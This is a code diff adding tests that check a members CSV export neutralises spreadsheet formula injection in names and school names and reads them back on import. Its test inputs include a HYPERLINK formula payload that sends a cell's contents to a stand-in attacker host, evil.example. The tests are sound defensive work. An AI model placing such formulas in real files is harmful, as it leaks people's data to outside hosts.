@@ -1,4 +1,6 @@
+import { parse } from "csv-parse/sync";
 import { describe, expect, it } from "vitest";
+import { toCsv } from "../../platform/csv";
 import { applicationCsvRow, checkImportHeader, checkImportRow, memberCsvHeader, memberCsvTemplate } from "./member-csv";
 
 const now = new Date("2026-03-01T12:00:00Z");
@@ -53,6 +55,44 @@ describe("the members CSV", () => {
     });
     expect(exported).toHaveLength(memberCsvHeader.length);
     const again = checkImportRow(Object.fromEntries(memberCsvHeader.map((c, n) => [c, String(exported[n])])), now);
+    expect(again).toEqual(checked);
+  });
+});
+
+describe("the members CSV and spreadsheet formulas", () => {
+  /** A stored application with these answers, exported, parsed as the import parses it, and checked again. */
+  const exportedAndReadBack = (stored: { name: string; schoolName?: string }) => {
+    const template = checkImportRow(row(), now);
+    if (!template.ok) throw new Error(JSON.stringify(template.problems));
+    const checked = { ...template, input: { ...template.input, ...stored } };
+    const i = checked.input;
+    const exported = applicationCsvRow({
+      ...i, state: "NY", decision: "eligible", status: "approved", createdAt: now, verifiedAt: null,
+      exams: { step1: { result: i.step1, date: i.step1Date }, step2ck: { result: i.step2ck, date: i.step2ckDate } },
+    });
+    const file = toCsv([memberCsvHeader, exported]);
+    const [record] = parse(file, { columns: true }) as Record<string, string>[];
+    return { checked, file, record, again: checkImportRow(record, now) };
+  };
+
+  it.each([
+    ["=", "=HYPERLINK(\"https://evil.example/?leak=\"&A2,\"Open\")"],
+    ["+", "+1 Medical School"],
+    ["-", "-Dr. Minus"],
+    ["@", "@SUM(A1:A2)"],
+    ["a full-width =", "\uFF1DHYPERLINK(\"https://evil.example\")"],
+  ])("neutralises a name and a school starting with %s, and imports them back unchanged", (_char, text) => {
+    const { checked, file, record, again } = exportedAndReadBack({ name: text, schoolName: text });
+    expect(file).toContain(`"'${text.replace(/"/g, '""')}"`);
+    expect(record.name).toBe(`'${text}`);
+    expect(record.school).toBe(`'${text}`);
+    expect(again).toEqual(checked);
+    if (again.ok) expect(again.input.name).toBe(text);
+  });
+
+  it("imports a name typed with a leading quote back with its quote", () => {
+    const { checked, record, again } = exportedAndReadBack({ name: "'=Dr. Quote" });
+    expect(record.name).toBe("''=Dr. Quote");
     expect(again).toEqual(checked);
   });
 });
